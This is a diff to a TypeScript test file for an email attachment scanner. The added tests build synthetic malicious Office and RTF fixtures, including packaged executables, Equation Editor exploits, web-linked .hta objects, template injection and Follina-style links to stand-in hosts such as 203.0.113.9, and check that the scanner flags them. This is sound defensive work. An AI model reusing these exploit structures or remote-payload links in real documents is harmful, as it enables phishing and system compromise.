@@ -6,12 +6,12 @@ import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { test } from 'node:test';
-import { DEFAULT_BLOCK_EXTENSIONS, DEFAULT_RISKY_EXTENSIONS, extensionsOf, inspectAttachments, isOle, isWebPage, nameFindings, phishPageSign, programKind, type AttachmentPolicy } from '../../../src/content/attachments.ts';
+import { DEFAULT_BLOCK_EXTENSIONS, DEFAULT_RISKY_EXTENSIONS, extensionsOf, fetchedOnOpen, inspectAttachments, isOle, isWebPage, nameFindings, phishPageSign, programKind, type AttachmentPolicy } from '../../../src/content/attachments.ts';
 import { attachmentsCheck, attachmentsOptionsSchema, type AttachmentsOptions } from '../../../src/pipeline/checks/attachments.ts';
 import { parseMessage } from '../../../src/pipeline/index.ts';
 import { parseReply } from '../../../src/pipeline/verdict.ts';
 import type { CheckDeps, DataContext } from '../../../src/pipeline/types.ts';
-import { PDF, oleDocument, outlookMessage, windowsProgram } from '../../helpers/files.ts';
+import { PDF, equationObject, ole10Native, oleDocument, outlookMessage, rtfDocument, webLinkedObject, windowsProgram } from '../../helpers/files.ts';
 import { rar4Archive, rar5Archive } from '../../helpers/rar.ts';
 import { excelWorkbook, readWithXlrd } from '../../helpers/xls.ts';
 import { isoImage, zipArchive } from '../../helpers/zip.ts';
@@ -208,6 +208,65 @@ test('Excel 97–2003 workbooks: an Excel 4.0 macro sheet (hidden or not) counts
   assert.deepEqual(readWithXlrd(plain), { worksheets: ['Rechnung', 'Summen'], macroSheets: [] });
   assert.deepEqual(await summary([{ filename: 'Budget.xls', content: plain }]), [], 'worksheets only');
   assert.deepEqual(await summary([{ filename: 'docs.zip', content: zipArchive([['Rechnung.xls', dropper]]) }]), ['macro: docs.zip > Rechnung.xls (an Excel workbook with Excel 4.0 macros)']);
+});
+
+// ClamAV's own test files (Debian clamav-testfiles), written by Word: clam.exe packaged into an RTF and a .doc
+const CLAMAV_TESTFILES = '/usr/share/clamav-testfiles';
+
+test('RTF documents: packaged files, embedded documents and Equation Editor objects, also hidden in obfuscated hex', async () => {
+  assert.deepEqual(await summary([{ filename: 'clam.exe.rtf', content: readFileSync(join(CLAMAV_TESTFILES, 'clam.exe.rtf')) }]), ['blocked: clam.exe.rtf > clam.exe (.exe)']);
+  assert.deepEqual(await summary([{ filename: 'clam.ole.doc', content: readFileSync(join(CLAMAV_TESTFILES, 'clam.ole.doc')) }]), ['blocked: clam.ole.doc > clam.exe (.exe)']);
+  const packaged = { className: 'Package', native: ole10Native('Rechnung.pdf.exe', windowsProgram()).subarray(4) };
+  for (const obfuscated of [false, true]) {
+    // Word opens RTF under any name
+    assert.deepEqual(await summary([{ filename: 'Rechnung.doc', content: rtfDocument([packaged], { obfuscated }) }]), [
+      'blocked: Rechnung.doc > Rechnung.pdf.exe (.exe)', 'deceptive: Rechnung.doc > Rechnung.pdf.exe (.pdf in front of .exe)',
+    ], `obfuscated: ${obfuscated}`);
+    assert.deepEqual(await summary([{ filename: 'Angebot.rtf', content: rtfDocument([{ className: 'Word.Document.8', native: oleDocument({ macros: true }) }], { obfuscated }) }]), ['macro: Angebot.rtf (an Office document with macros)']);
+  }
+  // the Equation Editor by class name, or by the class ID of an embedded OLE2 object whose class name lies
+  const equation = 'exploit: Bestellung.rtf (an Equation Editor object (CVE-2017-11882))';
+  assert.deepEqual(await summary([{ filename: 'Bestellung.rtf', content: rtfDocument([{ className: 'Equation.3', native: Buffer.alloc(64, 0x1c) }]) }]), [equation]);
+  for (const ids of [{ clsid: false }, { progId: false }]) {
+    assert.deepEqual(await summary([{ filename: 'Bestellung.rtf', content: rtfDocument([{ className: 'Word.Picture.8', native: equationObject(ids) }], { obfuscated: true }) }]), [equation], JSON.stringify(ids));
+  }
+  assert.deepEqual(await summary([{ filename: 'Bestellung.rtf', content: rtfDocument([{ className: 'Word.Picture.8', native: equationObject({ clsid: false, progId: false }) }]) }]), [], 'neither');
+  const many = rtfDocument(Array.from({ length: 5 }, () => ({ className: 'Equation.3', native: Buffer.alloc(64, 0x1c) })));
+  assert.deepEqual(await summary([{ filename: 'Bestellung.rtf', content: many }]), [equation], 'one finding for five objects');
+  // a link that loads a document from the web, and a template fetched from the web
+  assert.deepEqual(await summary([{ filename: 'Info.rtf', content: rtfDocument([{ className: 'OLE2Link', native: webLinkedObject('http://203.0.113.9/invoice.hta') }]) }]), ['remote: Info.rtf (a linked object that loads a document from the web (CVE-2017-0199))']);
+  assert.deepEqual(await summary([{ filename: 'Info.rtf', content: rtfDocument([], { template: 'http://203.0.113.9/t.dotm' }) }]), ['remote: Info.rtf (a template fetched from the web (http://203.0.113.9/t.dotm))']);
+  // inside a ZIP; an ordinary RTF; not looked into
+  assert.deepEqual(await summary([{ filename: 'docs.zip', content: zipArchive([['Bestellung.rtf', many]]) }]), ['exploit: docs.zip > Bestellung.rtf (an Equation Editor object (CVE-2017-11882))']);
+  assert.deepEqual(await summary([{ filename: 'Brief.rtf', content: rtfDocument([{ className: 'Paint.Picture', native: Buffer.alloc(300, 7) }]) }]), []);
+  assert.deepEqual(await summary([{ filename: 'Brief.rtf', content: Buffer.from('{\\rtf1\\ansi {\\*\\objdata 0105}{\\*\\objdata zz}\\objdata') }]), [], 'damaged objects');
+  assert.deepEqual(await summary([{ filename: 'Bestellung.rtf', content: many }], policy({ inspectArchives: false })), []);
+});
+
+test('Office documents that exploit Office or fetch content from the web as they open (OLE2 and OOXML)', async () => {
+  const part = (s: string) => Buffer.from(s);
+  const rels = (...r: string[]) => part(`<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${r.join('')}</Relationships>`);
+  const rel = (type: string, target: string, external = true) =>
+    `<Relationship Id="rId${type.length}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}"${external ? ' TargetMode="External"' : ''}/>`;
+  const docx = (extra: Array<[string, Buffer]>) => zipArchive([['[Content_Types].xml', part('<Types/>')], ['word/document.xml', part('<w:document/>')], ...extra]);
+  // template injection: the macros come with the template
+  const injected = docx([['word/_rels/settings.xml.rels', rels(rel('attachedTemplate', 'https://office-templates.test/Normal.dotm?id=7&amp;x=1'))]]);
+  assert.deepEqual(await summary([{ filename: 'Lebenslauf.docx', content: injected }]), ['remote: Lebenslauf.docx (a template fetched from the web (https://office-templates.test/Normal.dotm?id=7&x=1))']);
+  // Follina: an external object whose address ends in "!"
+  const follina = docx([['word/_rels/document.xml.rels', rels(rel('styles', 'styles.xml', false), rel('oleObject', 'http://203.0.113.9/a.html!'))]]);
+  assert.deepEqual(await summary([{ filename: 'Vertrag.docx', content: follina }]), ['exploit: Vertrag.docx (an object that opens a web page with a script (CVE-2022-30190, "Follina"))']);
+  assert.deepEqual(fetchedOnOpen(rels(rel('oleObject', 'mhtml:http://203.0.113.9/a.html!x-usc:http://203.0.113.9/a.html')).toString()).map((f) => f.kind), ['exploit']);
+  // local templates, hyperlinks and a document's own parts are ordinary
+  const ordinary = docx([
+    ['word/_rels/settings.xml.rels', rels(rel('attachedTemplate', 'file:///C:\\Users\\anna\\AppData\\Roaming\\Microsoft\\Templates\\Brief.dotx'))],
+    ['word/_rels/document.xml.rels', rels(rel('hyperlink', 'https://www.example.com/'), rel('image', 'media/image1.png', false), rel('oleObject', 'embeddings/oleObject1.bin', false))],
+  ]);
+  assert.deepEqual(await summary([{ filename: 'Brief.docx', content: ordinary }]), []);
+  // OLE2: an Equation Editor object in a Word 97–2003 document or an OOXML one, a web-linked object
+  assert.deepEqual(await summary([{ filename: 'Formel.docx', content: docx([['word/embeddings/oleObject1.bin', equationObject()]]) }]), ['exploit: Formel.docx (an Equation Editor object (CVE-2017-11882))']);
+  assert.deepEqual(await summary([{ filename: 'eq.bin', content: equationObject() }]), ['exploit: eq.bin (an Equation Editor object (CVE-2017-11882))']);
+  assert.deepEqual(await summary([{ filename: 'link.doc', content: webLinkedObject('http://203.0.113.9/x.hta') }]), ['remote: link.doc (a linked object that loads a document from the web (CVE-2017-0199))']);
+  assert.deepEqual(await summary([{ filename: 'docs.zip', content: zipArchive([['Lebenslauf.docx', injected]]) }]), ['remote: docs.zip > Lebenslauf.docx (a template fetched from the web (https://office-templates.test/Normal.dotm?id=7&x=1))']);
 });
 
 test("Outlook messages (.msg): their attachments count like a forwarded message's", async () => {
